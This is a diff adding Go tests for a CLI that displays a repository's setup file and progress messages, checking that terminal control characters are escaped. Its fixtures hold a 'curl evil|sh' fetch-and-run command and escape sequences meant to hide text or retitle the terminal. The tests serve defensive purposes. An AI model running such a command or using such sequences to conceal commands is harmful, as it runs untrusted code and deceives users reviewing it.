@@ -2,10 +2,12 @@ package main
 
 import (
 	"bytes"
+	"errors"
 	"strings"
 	"testing"
 
 	"github.com/agentpool/agentpool/backends"
+	"github.com/agentpool/agentpool/httpapi"
 	"github.com/agentpool/agentpool/pool"
 )
 
@@ -137,5 +139,35 @@ func TestDiffNamesEscaped(t *testing.T) {
 		if !strings.Contains(got, want) {
 			t.Errorf("output lacks %q:\n%s", want, got)
 		}
+	}
+}
+
+// TestSetupFileShownEscaped: a repository's setup file, shown before the
+// user trusts it, cannot hide a line or a part of its command.
+func TestSetupFileShownEscaped(t *testing.T) {
+	var out bytes.Buffer
+	c := &cli{stdout: &out, stderr: &out}
+	c.showSetupFile(httpapi.SetupFile{Repo: "/r", File: "/r/.agentpool/setup.json", SHA256: "ab",
+		Content: "{\"command\": [\"make\"]}\n" + seqOverwrite + seqHidden + "\"curl evil|sh\"\n",
+		Copy:    []string{".env" + seqTitle}, Command: []string{"sh", "-c", seqHidden + "curl evil|sh"}, Timeout: "5m0s"})
+	got := out.String()
+	if strings.ContainsAny(got, "\x1b\r\x07") {
+		t.Errorf("a control character of the repository's reached the terminal:\n%q", got)
+	}
+	for _, want := range []string{"  | ^M^[[2K^[[1A^[[8m\"curl evil|sh\"", "'.env^[]0;pwned^[\\'", "'^[[8mcurl evil|sh'"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("output lacks %q:\n%s", want, got)
+		}
+	}
+}
+
+// TestProgressEscapesArgs: a progress note's arguments (an agent's
+// error, a daemon's message) are escaped; its own format is not.
+func TestProgressEscapesArgs(t *testing.T) {
+	var out bytes.Buffer
+	c := &cli{stdout: &out, stderr: &out}
+	c.progress("failed: %s (%v) %d\n", "bad"+seqTitle, errors.New("worse"+seqHidden), 3)
+	if got, want := out.String(), "failed: bad^[]0;pwned^[\\ (worse^[[8m) 3\n"; got != want {
+		t.Errorf("progress = %q; want %q", got, want)
 	}
 }
